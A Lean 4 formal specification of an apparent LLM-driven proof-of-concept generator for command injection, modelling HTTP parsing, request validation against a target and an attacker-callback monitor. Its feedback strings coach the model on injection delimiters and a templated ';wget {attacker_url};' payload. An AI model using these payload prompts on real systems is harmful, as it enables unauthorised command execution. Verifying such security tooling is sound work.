import Mathlib

/-!
Verification of the PoCGen core against its specification.

The Python sources are embedded shallowly: strings are `List Char` (converted
from `String` at the edges), Python dictionaries with string keys are
insertion-ordered association lists, fallible code returns `Except String`,
and machine-external collaborators (the LLM transport, the HTTP client, the
file system, `urllib.parse.urljoin`) are passed in as explicit oracles.
-/

/-! ## Python string primitives -/

/-- Python whitespace for `str.strip()` / the regex class `\s` (ASCII part). -/
def isPySpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\x0d' || c = '\x0b' || c = '\x0c'

/-- The characters Python `str.splitlines` treats as line boundaries
(besides the two-character boundary `"\r\n"` handled separately). -/
def isLineBreakChar (c : Char) : Bool :=
  c = '\n' || c = '\x0d' || c = '\x0b' || c = '\x0c' ||
  c = '\x1c' || c = '\x1d' || c = '\x1e' || c = '\u0085' ||
  c = '\u2028' || c = '\u2029'

/-- Worker for `pySplitlines`, carrying the current line reversed. -/
def splitlinesGo : List Char → List Char → List (List Char)
  | [], acc => if acc = [] then [] else [acc.reverse]
  | '\x0d' :: '\n' :: rest, acc => acc.reverse :: splitlinesGo rest []
  | c :: rest, acc =>
    if isLineBreakChar c then acc.reverse :: splitlinesGo rest []
    else splitlinesGo rest (c :: acc)

/-- Python `str.splitlines()`: split at line boundaries, no trailing empty
line for a trailing terminator; `"".splitlines() == []`. -/
def pySplitlines (cs : List Char) : List (List Char) := splitlinesGo cs []

/-- Python `str.strip(chars)` generalised to a character predicate. -/
def pyStripWith (p : Char → Bool) (l : List Char) : List Char :=
  ((l.dropWhile p).reverse.dropWhile p).reverse

/-- Python `str.strip()` (default whitespace). -/
def pyStrip (l : List Char) : List Char := pyStripWith isPySpace l

/-- Worker for `pySplitWs`, carrying the current field reversed. -/
def splitWsGo : List Char → List Char → List (List Char)
  | [], acc => if acc = [] then [] else [acc.reverse]
  | c :: rest, acc =>
    if isPySpace c then
      if acc = [] then splitWsGo rest []
      else acc.reverse :: splitWsGo rest []
    else splitWsGo rest (c :: acc)

/-- Python `str.split()` with no argument: split on whitespace runs,
dropping empty fields. -/
def pySplitWs (l : List Char) : List (List Char) := splitWsGo l []

/-- Python `"\n".join` over char lists. -/
def interNl : List (List Char) → List Char
  | [] => []
  | [l] => l
  | l :: ls => l ++ '\n' :: interNl ls

/-- Python `str.split("\n")` (single-character separator, keeps empties). -/
def splitNl : List Char → List (List Char)
  | [] => [[]]
  | c :: rest =>
    if c = '\n' then [] :: splitNl rest
    else match splitNl rest with
      | [] => [[c]]
      | l :: ls => (c :: l) :: ls

/-- UTF-8 byte length of a char list, i.e. Python `len(s.encode("utf-8"))`. -/
def utf8Len (l : List Char) : Nat := (l.map Char.utf8Size).sum

/-- Python `sub in s` (substring containment). -/
def containsSub (pat : List Char) : List Char → Bool
  | [] => pat.isPrefixOf []
  | c :: rest => pat.isPrefixOf (c :: rest) || containsSub pat rest

/-- Digit test for `pyInt`. -/
def isAsciiDigit (c : Char) : Bool := '0' ≤ c ∧ c ≤ '9'

/-- Digit accumulation for `pyInt`: underscores only between digits. -/
def pyIntGo : List Char → Nat → Except Unit Nat
  | [], acc => .ok acc
  | c :: rest, acc =>
    if isAsciiDigit c then pyIntGo rest (acc * 10 + (c.toNat - '0'.toNat))
    else if c = '_' then
      match rest with
      | r :: _ => if isAsciiDigit r then pyIntGo rest acc else .error ()
      | [] => .error ()
    else .error ()

/-- Digits (with grouping underscores) to a value; must start with a digit. -/
def pyIntDigits (ds : List Char) : Except Unit Nat :=
  match ds with
  | [] => .error ()
  | c :: _ => if isAsciiDigit c then pyIntGo ds 0 else .error ()

/-- Python `int(s)`: optional surrounding whitespace, an optional sign, then
digits possibly grouped by single underscores. `Except` models `ValueError`. -/
def pyInt (s : List Char) : Except Unit Int :=
  match pyStrip s with
  | '-' :: ds => (pyIntDigits ds).map (fun n => -(n : Int))
  | '+' :: ds => (pyIntDigits ds).map (fun n => (n : Int))
  | ds => (pyIntDigits ds).map (fun n => (n : Int))

/-- Python `str.upper()` (ASCII fragment). -/
def pyUpper (l : List Char) : List Char := l.map Char.toUpper

/-! ## Insertion-ordered string dictionaries (Python `dict`) -/

/-- `d[k] = v`: overwrite in place, else append. -/
def dictInsert (d : List (String × String)) (k v : String) : List (String × String) :=
  if d.any (fun p => p.1 = k) then d.map (fun p => if p.1 = k then (k, v) else p)
  else d ++ [(k, v)]

/-- `k in d`. -/
def dictContains (d : List (String × String)) (k : String) : Bool :=
  d.any (fun p => p.1 = k)

/-- `d.get(k)`. -/
def dictGet (d : List (String × String)) (k : String) : Option String :=
  (d.find? (fun p => p.1 = k)).map Prod.snd

/-- `d.pop(k)` (the remaining dictionary; the value is read via `dictGet`). -/
def dictRemove (d : List (String × String)) (k : String) : List (String × String) :=
  d.filter (fun p => p.1 ≠ k)

/-! ## `core/models.py`: HTTPMessage -/

structure HTTPMessage where
  method : String
  path : String
  version : String
  headers : List (String × String)
  body : String
deriving DecidableEq, Repr

/-- The header loop of `HTTPMessage.parse`: consume lines until a blank line,
skipping lines without a colon; returns the headers and the remaining lines
(the body lines). -/
def parseHeaderLines : List (List Char) → List (String × String) →
    List (String × String) × List (List Char)
  | [], hs => (hs, [])
  | l :: rest, hs =>
    if pyStrip l = [] then (hs, rest)
    else if l.contains ':' then
      let k := l.takeWhile (fun c => c ≠ ':')
      let v := l.drop (k.length + 1)
      parseHeaderLines rest (dictInsert hs ⟨pyStrip k⟩ ⟨pyStrip v⟩)
    else parseHeaderLines rest hs

/-- `HTTPMessage.parse` (`core/models.py`): split the raw text into lines,
require at least 3 whitespace-separated tokens on the (stripped) first line,
then read headers until a blank line and keep the rest as the body. -/
def HTTPMessage.parse (raw : String) : Except String HTTPMessage :=
  match pySplitlines raw.data with
  | [] => .error "Empty HTTP message"
  | first :: rest =>
    let start := pyStrip first
    let parts := pySplitWs start
    if parts.length < 3 then .error ("Invalid request line: " ++ ⟨start⟩)
    else
      let (headers, bodyLines) := parseHeaderLines rest []
      .ok { method := ⟨parts.getD 0 []⟩, path := ⟨parts.getD 1 []⟩,
            version := ⟨parts.getD 2 []⟩, headers := headers,
            body := ⟨interNl bodyLines⟩ }

/-! ## `core/validators.py` -/

/-- `validate_http_message`: structural warnings, never failing. -/
def validateHttpMessage (msg : HTTPMessage) : List String :=
  let errs0 : List String :=
    if ["HTTP/1.0", "HTTP/1.1", "HTTP/2", "HTTP/2.0"].contains
        (⟨pyUpper msg.version.data⟩ : String) then []
    else ["Unsupported HTTP version: " ++ msg.version]
  let errs1 : List String :=
    if msg.method = "" ∨ msg.path = "" then ["Missing method or path"] else []
  let errs2 : List String :=
    if dictContains msg.headers "Host" then [] else ["Missing Host header"]
  let errs3 : List String :=
    if dictContains msg.headers "Content-Length" then
      let declared : Except Unit Int :=
        match dictGet msg.headers "Content-Length" with
        | some v => if v ≠ "" then pyInt v.data else .ok 0
        | none => .ok 0
      match declared with
      | .ok d =>
        let actual : Int := (utf8Len msg.body.data : Nat)
        if d ≠ actual then
          ["Content-Length mismatch: declared " ++ toString d ++
           ", actual " ++ toString actual]
        else []
      | .error _ => ["Invalid Content-Length header"]
    else []
  errs0 ++ errs1 ++ errs2 ++ errs3

/-- `parse_and_validate`: parse, then validate; a parse failure propagates. -/
def parseAndValidate (raw : String) : Except String (HTTPMessage × List String) :=
  (HTTPMessage.parse raw).map (fun msg => (msg, validateHttpMessage msg))

/-- The placeholder message `parse_and_filter` builds on a parse failure. -/
def placeholderMessage (raw : String) : HTTPMessage :=
  { method := "", path := "", version := "", headers := [], body := raw }

/-- `parse_and_filter` (`core/postprocess.py`): never fails; a parse failure
becomes a placeholder message with a one-element warning list. -/
def parseAndFilter (raws : List String) : List (HTTPMessage × List String) :=
  raws.map (fun m =>
    match parseAndValidate m with
    | .ok r => r
    | .error e => (placeholderMessage m, ["Parse error: " ++ e]))

/-! ## `core/postprocess.py`: the output splitter -/

/-- Python `str.strip("\n\r ")`. -/
def stripNlCrSp (l : List Char) : List Char :=
  pyStripWith (fun c => c = '\n' || c = '\x0d' || c = ' ') l

/-- Python `str.replace("\r\n", "\n")` (leftmost, non-overlapping). -/
def replaceCRLF : List Char → List Char
  | [] => []
  | [c] => [c]
  | c :: c2 :: rest =>
    if c = '\x0d' ∧ c2 = '\n' then '\n' :: replaceCRLF rest
    else c :: replaceCRLF (c2 :: rest)

/-- Python `str.replace("\r", "\n")`: a single-character replacement is a
character map. -/
def replaceCR : List Char → List Char
  | [] => []
  | c :: rest => (if c = '\x0d' then '\n' else c) :: replaceCR rest

/-- Python `str.replace("\n", "\r\n")`. -/
def lfToCrlf : List Char → List Char
  | [] => []
  | c :: rest => (if c = '\n' then ['\x0d', '\n'] else [c]) ++ lfToCrlf rest

/-- `.replace("\r\n", "\n").replace("\r", "\n")`, the line-ending
normalisation both `split_messages` and `_adjust_content_length` perform. -/
def normalizeNl (l : List Char) : List Char := replaceCR (replaceCRLF l)

/-- The method alternatives of the request-line regex, in source order. -/
def httpMethods : List (List Char) :=
  ["GET".data, "POST".data, "PUT".data, "DELETE".data, "PATCH".data,
   "HEAD".data, "OPTIONS".data, "TRACE".data, "CONNECT".data]

/-- Whether `p` decomposes as `\s+ [^\r\n]+ \s+` (a nonempty whitespace run,
then a nonempty run free of CR/LF, then a nonempty whitespace run). The
split points are searched exhaustively, matching the regex's backtracking. -/
def decompMid (p : List Char) : Bool :=
  (List.range (p.length + 1)).any fun i =>
    (List.range (p.length + 1)).any fun j =>
      decide (1 ≤ i) && decide (i < j) && decide (j < p.length) &&
      (p.take i).all isPySpace &&
      ((p.drop i).take (j - i)).all (fun c => c ≠ '\x0d' && c ≠ '\n') &&
      (p.drop j).all isPySpace

/-- Strip the trailing whitespace run (the regex's final `\s*`, which is
forced to be maximal because the literal before it ends in a digit). -/
def dropTrailingWs (l : List Char) : List Char :=
  (l.reverse.dropWhile isPySpace).reverse

/-- If `l` ends with the literal `HTTP/<digit>.<digit>`, the part before it. -/
def chopHttpLit (l : List Char) : Option (List Char) :=
  match l.reverse with
  | d2 :: '.' :: d1 :: '/' :: 'P' :: 'T' :: 'T' :: 'H' :: pre =>
    if isAsciiDigit d1 && isAsciiDigit d2 then some pre.reverse else none
  | _ => none

/-- The request-line regex of `split_messages`:
`^(GET|POST|PUT|DELETE|PATCH|HEAD|OPTIONS|TRACE|CONNECT)\s+[^\r\n]+\s+HTTP/\d\.\d\s*$`.
A line matches iff some method is a prefix and the remainder splits as
whitespace, a middle, whitespace, the `HTTP/d.d` literal and trailing
whitespace; both anchors are explicit in the pattern. -/
def matchesRequestLine (line : List Char) : Bool :=
  httpMethods.any fun m =>
    m.isPrefixOf line &&
    (match chopHttpLit (dropTrailingWs (line.drop m.length)) with
     | some p => decompMid p
     | none => false)

/-- The request-line indices `split_messages` collects. -/
def requestLineIdxs (lines : List (List Char)) : List Nat :=
  (List.range lines.length).filter (fun i => matchesRequestLine (lines.getD i []))

/-- Python `str.strip("\n")`. -/
def stripNlEnds (l : List Char) : List Char := pyStripWith (fun c => c = '\n') l

/-- The end of the block starting at one request-line index: the next
request-line index, or the end of the text. -/
def nextBoundary (lines : List (List Char)) (rest : List Nat) : Nat :=
  match rest with
  | [] => lines.length
  | e :: _ => e

/-- The block-building loop of `split_messages`: each request-line index
starts a block running to the next index (or the end); empty blocks are
dropped. -/
def blocksFrom (lines : List (List Char)) : List Nat → List (List Char)
  | [] => []
  | s :: rest =>
    let block := stripNlEnds (interNl
      ((lines.drop s).take (nextBoundary lines rest - s)))
    (if block = [] then [] else [block]) ++ blocksFrom lines rest

/-- `split_messages` (`core/postprocess.py`): strip the raw output, detect
request-line boundaries on normalised line endings, and split only when more
than one request line is present. -/
def splitMessages (rawOutput : String) : List String :=
  let text := stripNlCrSp rawOutput.data
  if text = [] then []
  else
    let lines := splitNl (normalizeNl text)
    let idxs := requestLineIdxs lines
    if idxs.length ≤ 1 then [⟨text⟩]
    else (blocksFrom lines idxs).map (fun b => (⟨b⟩ : String))

/-! ## `core/postprocess.py`: `_adjust_content_length` -/

/-- Split at the first `"\n\n"`, returning the head and the remainder. -/
def splitSep : List Char → Option (List Char × List Char)
  | [] => none
  | [_] => none
  | c :: c2 :: rest =>
    if c = '\n' ∧ c2 = '\n' then some ([], rest)
    else (splitSep (c2 :: rest)).map (fun hb => (c :: hb.1, hb.2))

/-- `ln.lower().startswith("content-length:")`. -/
def startsWithCLHeader (l : List Char) : Bool :=
  "content-length:".data.isPrefixOf (l.map Char.toLower)

/-- The canonical header line `f"Content-Length: {n}"`. -/
def clLine (n : Nat) : List Char := ("Content-Length: " ++ toString n).data

/-- The header-rewriting loop of `_adjust_content_length`: replace the first
line that starts (case-insensitively) with `content-length:`; report whether
one was found. -/
def replaceCL : List (List Char) → Nat → List (List Char) × Bool
  | [], _ => ([], false)
  | l :: rest, n =>
    if startsWithCLHeader l then (clLine n :: rest, true)
    else
      let r := replaceCL rest n
      (l :: r.1, r.2)

/-- `head.split("\n") if head else []` in `_adjust_content_length`. -/
def aclLines (head : List Char) : List (List Char) :=
  if head = [] then [] else splitNl head

/-- The body of `_adjust_content_length` after line-ending normalisation:
split head/body at the first blank line, rewrite or insert `Content-Length`
with the body's UTF-8 byte length, and reassemble. `sepInOriginal` is the
Python `sep in original` test (on the original, unnormalised text). -/
def aclCore (text : List Char) (sepInOriginal : Bool) : List Char :=
  let hb := match splitSep text with
    | some hb => hb
    | none => (text, [])
  let bodyLen := utf8Len hb.2
  let r := replaceCL (aclLines hb.1) bodyLen
  let lines2 := if ¬r.2 ∧ hb.2 ≠ [] then r.1 ++ [clLine bodyLen] else r.1
  let newHead := interNl lines2
  if hb.2 ≠ [] ∨ sepInOriginal then newHead ++ '\n' :: '\n' :: hb.2 else newHead

/-- `_adjust_content_length` (`core/postprocess.py`): normalise line endings,
adjust the `Content-Length` header to the body's UTF-8 byte length, and
restore CRLF when the original contained any. -/
def adjustContentLength (raw : String) : String :=
  let original := raw.data
  let rebuilt := aclCore (normalizeNl original) (containsSub ['\n', '\n'] original)
  if containsSub ['\x0d', '\n'] original then ⟨lfToCrlf rebuilt⟩ else ⟨rebuilt⟩


/-! ## `core/models.py`: SocketEventMessage and JSON values

`json.loads` is standard-library code outside this repository, so the parser
is embedded as a function on already-decoded JSON values. -/

/-- A decoded JSON value (Python object as produced by `json.loads`);
`jnull` doubles as Python `None`, which is also what `dict.get` returns for
a missing key. -/
inductive JValue where
  | jnull
  | jbool (b : Bool)
  | jnum (n : Int)
  | jstr (s : String)
  | jarr (xs : List JValue)
  | jobj (fields : List (String × JValue))

/-- Python truthiness of a JSON value. -/
def JValue.truthy : JValue → Bool
  | .jnull => false
  | .jbool b => b
  | .jnum n => n != 0
  | .jstr s => s != ""
  | .jarr xs => !xs.isEmpty
  | .jobj fs => !fs.isEmpty

/-- Python `x is None` on a decoded value. -/
def JValue.isNull : JValue → Bool
  | .jnull => true
  | _ => false

/-- Python `a or b`. -/
def pyOr (a b : JValue) : JValue := if a.truthy then a else b

/-- `data.get(k)`: the field value, or `None` for a missing key. -/
def jGet (fields : List (String × JValue)) (k : String) : JValue :=
  match fields.find? (fun p => p.1 = k) with
  | some p => p.2
  | none => .jnull

mutual
/-- Python `repr` of a decoded JSON value (string quoting unescaped: the
characters that would need escaping never appear in this repository's data). -/
def reprJ : JValue → String
  | .jnull => "None"
  | .jbool true => "True"
  | .jbool false => "False"
  | .jnum n => toString n
  | .jstr s => "'" ++ s ++ "'"
  | .jarr xs => "[" ++ reprJList xs ++ "]"
  | .jobj fs => "\x7b" ++ reprJFields fs ++ "\x7d"

/-- `repr` of a list's elements, comma separated. -/
def reprJList : List JValue → String
  | [] => ""
  | [x] => reprJ x
  | x :: xs => reprJ x ++ ", " ++ reprJList xs

/-- `repr` of a dict's items, comma separated. -/
def reprJFields : List (String × JValue) → String
  | [] => ""
  | [(k, v)] => "'" ++ k ++ "': " ++ reprJ v
  | (k, v) :: fs => "'" ++ k ++ "': " ++ reprJ v ++ ", " ++ reprJFields fs
end

/-- Python `str()` of a decoded JSON value. -/
def pyStrJ : JValue → String
  | .jnull => "None"
  | .jbool true => "True"
  | .jbool false => "False"
  | .jnum n => toString n
  | .jstr s => s
  | .jarr xs => reprJ (.jarr xs)
  | .jobj fs => reprJ (.jobj fs)

/-- Python `int()` of a decoded JSON value (`TypeError`/`ValueError` as
`Except`). -/
def pyIntJ : JValue → Except String Int
  | .jnum n => .ok n
  | .jbool true => .ok 1
  | .jbool false => .ok 0
  | .jstr s =>
    match pyInt s.data with
    | .ok n => .ok n
    | .error _ => .error ("invalid literal for int() with base 10: " ++ s)
  | _ => .error "int() argument must be a string, a bytes-like object or a real number"

/-- `{str(k): str(v) for k, v in headers_raw.items()}`. -/
def stringifyHeaders (fs : List (String × JValue)) : List (String × String) :=
  fs.foldl (fun d p => dictInsert d p.1 (pyStrJ p.2)) []

/-- `str(data.get("url") or "").strip()` and the same for `path`/`event`. -/
def socketStrField (fs : List (String × JValue)) (k : String) : String :=
  ⟨pyStrip (pyStrJ (pyOr (jGet fs k) (.jstr ""))).data⟩

/-- `data.get("frame") or data.get("raw_frame")`. -/
def socketFrame (fs : List (String × JValue)) : JValue :=
  pyOr (jGet fs "frame") (jGet fs "raw_frame")

/-- `data.get("headers") or {}`. -/
def socketHeadersRaw (fs : List (String × JValue)) : JValue :=
  pyOr (jGet fs "headers") (.jobj [])

/-- Whether the `headers` value is a truthy non-object (`TypeError` case). -/
def socketHeadersBad (fs : List (String × JValue)) : Bool :=
  match socketHeadersRaw fs with
  | .jobj _ => false
  | _ => true

/-- The stringified headers dict (meaningful when `socketHeadersBad` is
false). -/
def socketHeaders0 (fs : List (String × JValue)) : List (String × String) :=
  match socketHeadersRaw fs with
  | .jobj hfs => stringifyHeaders hfs
  | _ => []

/-- `int(data.get("max_response_frames") or 1)`. -/
def socketMrf (fs : List (String × JValue)) : Except String Int :=
  pyIntJ (pyOr (jGet fs "max_response_frames") (.jnum 1))

/-- The condition under which `cookies` is pulled from the `Cookie` header:
`(cookies is None or str(cookies).strip() == "") and "Cookie" in headers`. -/
def socketPromoteCookie (fs : List (String × JValue)) : Bool :=
  let c := jGet fs "cookies"
  (c.isNull || pyStrip (pyStrJ c).data == []) && dictContains (socketHeaders0 fs) "Cookie"

/-- Structured Socket.IO event message (`core/models.py`). The Python field
`namespace` is a Lean keyword and is embedded as `nsp`. -/
structure SocketEventMessage where
  url : String
  path : Option String
  event : Option String
  payload : JValue
  raw_frame : Option String
  nsp : Option String
  headers : List (String × String)
  cookies : Option String
  wait_for_response : Bool
  max_response_frames : Int

/-- `SocketEventMessage.parse` (`core/models.py`) on a decoded JSON value:
requires an object, at least one of `url`/`path`, an `event` when no frame
is given, an object-shaped `headers`, and an `int()`-convertible
`max_response_frames`; pulls `cookies` out of the `Cookie` header when the
`cookies` field is absent or blank. -/
def SocketEventMessage.parse (data : JValue) : Except String SocketEventMessage :=
  match data with
  | .jobj fs =>
    let url := socketStrField fs "url"
    let path := socketStrField fs "path"
    if url = "" ∧ path = "" then .error "Missing socket URL or path"
    else
      let payload := jGet fs "payload"
      let rawFrame := socketFrame fs
      let eventRes : Except String (Option String) :=
        if rawFrame.isNull then
          let event := socketStrField fs "event"
          if event = "" then .error "Missing socket event name or frame"
          else .ok (some event)
        else .ok none
      match eventRes with
      | .error e => .error e
      | .ok event =>
        if socketHeadersBad fs then .error "headers must be an object"
        else
          let headers0 := socketHeaders0 fs
          let promote := socketPromoteCookie fs
          let cookiesJ : JValue :=
            if promote then .jstr ((dictGet headers0 "Cookie").getD "") else jGet fs "cookies"
          let headers := if promote then dictRemove headers0 "Cookie" else headers0
          let wfr := jGet fs "wait_for_response"
          match socketMrf fs with
          | .error e => .error e
          | .ok mrf =>
            let ns := jGet fs "namespace"
            .ok { url := url,
                  path := if path = "" then none else some path,
                  event := event,
                  payload := payload,
                  raw_frame := if rawFrame.isNull then none else some (pyStrJ rawFrame),
                  nsp := if ns.truthy then some ⟨pyStrip (pyStrJ ns).data⟩ else none,
                  headers := headers,
                  cookies := if cookiesJ.truthy then some ⟨pyStrip (pyStrJ cookiesJ).data⟩ else none,
                  wait_for_response := if wfr.isNull then true else wfr.truthy,
                  max_response_frames := mrf }
  | _ => .error "Socket event payload must be a JSON object"

/-! ## `core/command_injection/http/remote_validator.py` -/

/-- `ValidationResult` (`core/models.py`). -/
structure ValidationResult where
  request_index : Nat
  url : String
  status_code : Option Int
  success : Bool
  response_preview : String := ""
  error : Option String := none
deriving DecidableEq, Repr

/-- The interesting part of an `httpx` response for this module. -/
structure HTTPResponse where
  status_code : Int
  text : String

/-- `_resolve_url`: an absolute path is used verbatim, otherwise the target
(with trailing slashes stripped, one added back) is joined with the path
(leading slashes stripped). `urljoin` is `urllib.parse.urljoin`, an external
collaborator. -/
def resolveUrl (urljoin : String → String → String) (message : HTTPMessage)
    (target : String) : String :=
  let path := if message.path ≠ "" then message.path else "/"
  if "http://".data.isPrefixOf path.data || "https://".data.isPrefixOf path.data then path
  else
    let base : String := ⟨(target.data.reverse.dropWhile (fun c => c = '/')).reverse⟩ ++ "/"
    urljoin base ⟨path.data.dropWhile (fun c => c = '/')⟩

/-- `_prepare_headers`: drop any `Content-Length` header, case-insensitively. -/
def prepareHeaders (headers : List (String × String)) : List (String × String) :=
  headers.foldl
    (fun cleaned p =>
      if (⟨p.1.data.map Char.toLower⟩ : String) = "content-length" then cleaned
      else dictInsert cleaned p.1 p.2)
    []

/-- The derived arguments of the transport call for one message: the method
(`POST` when empty), the resolved URL, the prepared headers, and the body
content (absent when the body is empty). -/
def requestCallArgs (urljoin : String → String → String) (message : HTTPMessage)
    (target : String) : String × String × List (String × String) × Option String :=
  (if message.method ≠ "" then message.method else "POST",
   resolveUrl urljoin message target,
   prepareHeaders message.headers,
   if message.body ≠ "" then some message.body else none)

/-- The per-request loop of `validate_http_requests`, from index `idx` on.
`transport` is the `httpx` client: for the `idx`-th call with the given
method, URL, headers and body it either returns a response or raises. -/
def validateHttpRequestsFrom
    (urljoin : String → String → String)
    (transport : Nat → String → String → List (String × String) → Option String →
      Except String HTTPResponse)
    (target : String) (idx : Nat) : List HTTPMessage → List ValidationResult
  | [] => []
  | message :: rest =>
    let args := requestCallArgs urljoin message target
    let res : ValidationResult :=
      match transport idx args.1 args.2.1 args.2.2.1 args.2.2.2 with
      | .ok resp =>
        { request_index := idx, url := args.2.1,
          status_code := some resp.status_code,
          success := decide (resp.status_code < 500),
          response_preview := ⟨resp.text.data.take 500⟩, error := none }
      | .error e =>
        { request_index := idx, url := args.2.1, status_code := none,
          success := false, response_preview := "", error := some e }
    res :: validateHttpRequestsFrom urljoin transport target (idx + 1) rest

/-- `validate_http_requests`: one `ValidationResult` per message; a transport
exception is caught per request and recorded, never propagated. -/
def validateHttpRequests
    (urljoin : String → String → String)
    (transport : Nat → String → String → List (String × String) → Option String →
      Except String HTTPResponse)
    (requests : List HTTPMessage) (target : String) : List ValidationResult :=
  validateHttpRequestsFrom urljoin transport target 0 requests

/-! ## `core/attacker_monitor.py`: the status endpoint -/

/-- The monitor state `handle_status` reads and clears: the hit event, the
hit timestamp and the rendered summary. -/
structure MonitorState where
  eventSet : Bool
  lastHitTs : Option Int
  lastRequestSummary : Option String
deriving DecidableEq, Repr

/-- The JSON body of a `/_status` response (its four fields; serialisation
is external). -/
structure StatusBody where
  ok : Bool
  hit : Bool
  hit_time : Int
  summary : String
deriving DecidableEq, Repr

/-- `params.get("clear", ["0"])[0]` over the parsed query parameters. -/
def clearParamValue (params : List (String × List String)) : String :=
  match params.find? (fun p => p.1 = "clear") with
  | some p => p.2.headD "0"
  | none => "0"

/-- `... in {"1", "true", "yes"}`. -/
def clearFlag (v : String) : Bool := v = "1" || v = "true" || v = "yes"

/-- `AttackerMonitor.handle_status`: build the status body from the current
state, then (only afterwards) clear the state when `clear` was requested.
The query string arrives already parsed (`urlparse`/`parse_qs` are standard
library). -/
def handleStatus (st : MonitorState) (params : List (String × List String)) :
    StatusBody × MonitorState :=
  let clear := clearFlag (clearParamValue params)
  let hit := st.eventSet
  let body : StatusBody :=
    { ok := true, hit := hit,
      hit_time := match st.lastHitTs with
        | some t => if t ≠ 0 then t else 0
        | none => 0,
      summary := st.lastRequestSummary.getD "" }
  let st2 :=
    if clear then
      { st with eventSet := false, lastRequestSummary := none, lastHitTs := none }
    else st
  (body, st2)

/-! ## `core/generator.py`: the attempt loop -/

/-- One turn of the LLM conversation. -/
structure ChatMessage where
  role : String
  content : String
deriving DecidableEq, Repr

/-- `AttemptResult` (`core/models.py`). -/
structure AttemptResult where
  attempt_index : Nat
  raw_output : String
  requests : List HTTPMessage
  saved_paths : List String
  validation_results : Option (List ValidationResult)
  monitor_hit : Bool
  monitor_summary : Option String
  feedback : Option String
deriving DecidableEq, Repr

/-- `GenerationResult` (`core/models.py`), HTTP fields. -/
structure GenerationResult where
  raw_output : String
  requests : List HTTPMessage
  saved_paths : List String
  validation_results : Option (List ValidationResult)
  attempts : Option (List AttemptResult)
  success : Option Bool
deriving DecidableEq, Repr

/-- The four-track remediation guidance `_build_attempt_feedback` appends
when there were parse issues or failed validations. -/
def guidanceText : String :=
  "Adjust along four tracks before the next attempt:\n" ++
  "1) Encoding: rebuild the BODY to mirror required fields, parameter casing/order, and payload syntax; match the server's expected encoding (JSON vs form-urlencoded vs raw) and reuse its injection delimiters (e.g., '$(...)', '$(+ ...)', backticks, pipes).\n" ++
  "2) Status/redirects: if 301/302, retry with the redirected path (e.g., '/path' -> '/path/'); if 401/403, refresh Cookie/credentials or follow the hinted auth flow; align Host/Origin/Referer with the target.\n" ++
  "3) Method: if a POST with empty body fails, resend the same request as GET to handle endpoints that only read query params.\n" ++
  "4) Payload: use a minimal, paired delimiter around the payload (e.g., ';wget \x7battacker_url\x7d;'), avoid extra quotes/backticks/brackets unless already present, and do NOT URL-encode separators; escape only what JSON requires."

/-- One validation result rendered for feedback, with its failure flag. -/
def summarizeValidation (res : ValidationResult) : String × Bool :=
  let status := match res.status_code with
    | some sc => "HTTP " ++ toString sc
    | none => "no status"
  let url := if res.url ≠ "" then res.url else "<no url>"
  let preview0 : String := ⟨pyStrip res.response_preview.data⟩
  let preview : String :=
    if preview0 ≠ "" then
      (⟨preview0.data.take 200⟩ : String) ++
        (if preview0.data.length > 200 then "..." else "")
    else preview0
  let detailParts : List String :=
    (match res.error with | some e => [e] | none => []) ++
    (if preview ≠ "" then ["body: " ++ preview] else [])
  let detail := String.intercalate "; " detailParts
  if res.success then
    ("Request #" ++ toString res.request_index ++ ": success -> " ++ status ++
       " (" ++ url ++ ")" ++ (if detail ≠ "" then "; " ++ detail else ""),
     false)
  else
    let detail2 := if detail = "" then "no response" else detail
    ("Request #" ++ toString res.request_index ++ ": failure -> " ++ status ++
       " (" ++ url ++ ")" ++ "; " ++ detail2,
     true)

/-- `_build_attempt_feedback` (`core/generator.py`). -/
def buildAttemptFeedback (parseIssues : List String)
    (validationResults : Option (List ValidationResult)) (attackerUrl : String)
    (monitorActive : Bool) (validationError : Option String) : Option String :=
  let msgs0 : List String :=
    if parseIssues ≠ [] then
      ["Local HTTP parsing/validation issues detected:\n" ++
       String.intercalate "\n" (parseIssues.map (fun issue => "- " ++ issue))]
    else []
  let summarized :=
    match validationResults with
    | some rs =>
      let pairs := rs.map summarizeValidation
      let summaries := pairs.map Prod.fst
      let anyFailed := (pairs.map Prod.snd).any id
      (if summaries ≠ [] then
        ["Target validation summary:\n" ++
         String.intercalate "\n" (summaries.map (fun item => "- " ++ item))]
       else [],
       anyFailed)
    | none =>
      (match validationError with
       | some e => ["Target validation did not run due to error: " ++ e]
       | none => ["Target validation did not run or returned no results."],
       false)
  let msgs2 : List String :=
    if monitorActive then
      ["Attacker monitor did NOT receive the expected wget callback. Ensure the payload executes `wget " ++
       attackerUrl ++
       "` directly (no URL encoding of separators) and that the vulnerable parameter maps to command execution."]
    else
      ["Attacker monitor is unavailable, so success could not be confirmed automatically. Still refine the payload to trigger `wget " ++
       attackerUrl ++ "` if possible."]
  let msgs3 : List String :=
    if parseIssues ≠ [] ∨ summarized.2 = true then [guidanceText] else []
  let messages := msgs0 ++ summarized.1 ++ msgs2 ++ msgs3
  if messages ≠ [] then some (String.intercalate "\n\n" messages) else none

/-- The per-message parse loop of an attempt: placeholder plus issue on a
parse failure, validation warnings as indexed issues otherwise. -/
def attemptParseLoop (idx : Nat) : List String → List HTTPMessage × List String
  | [] => ([], [])
  | raw :: rest =>
    let tailRes := attemptParseLoop (idx + 1) rest
    match parseAndValidate raw with
    | .ok r =>
      (r.1 :: tailRes.1,
       (r.2.map (fun err => "Request #" ++ toString idx ++ ": " ++ err)) ++ tailRes.2)
    | .error e =>
      (placeholderMessage raw :: tailRes.1,
       ("Request #" ++ toString idx ++ " parse error: " ++ e) :: tailRes.2)

/-- Cookie injection before validation: add the sampled `Cookie` header to
every request lacking one (in-place mutation in the Python). -/
def injectCookies (cookie : String) (reqs : List HTTPMessage) : List HTTPMessage :=
  reqs.map (fun req =>
    if ¬ dictContains req.headers "Cookie" then
      { req with headers := dictInsert req.headers "Cookie" cookie }
    else req)

/-- The configuration of one `generate_poc` run, after `Init` (handler
resolution, settings lookups and prompt construction already done). -/
structure LoopConfig where
  initialMessages : List ChatMessage
  maxIterations : Nat
  autoValidate : Bool
  stopAfterSuccess : Bool
  target : Option String
  attackerUrl : String
  monitorRunning : Bool
  targetProfileBlock : Option String
  sampleCookiesHeader : Option String
deriving Repr

/-- The external collaborators of the loop, indexed by attempt: the LLM
transport (`client.chat`, which may raise), `save_messages` (file system:
the saved paths), `validate_http_requests` as called through
`core/remote_validator.py` (which may raise), and the oracle wait
(hit flag and summary, from the owned monitor or the external one). -/
structure LoopEnv where
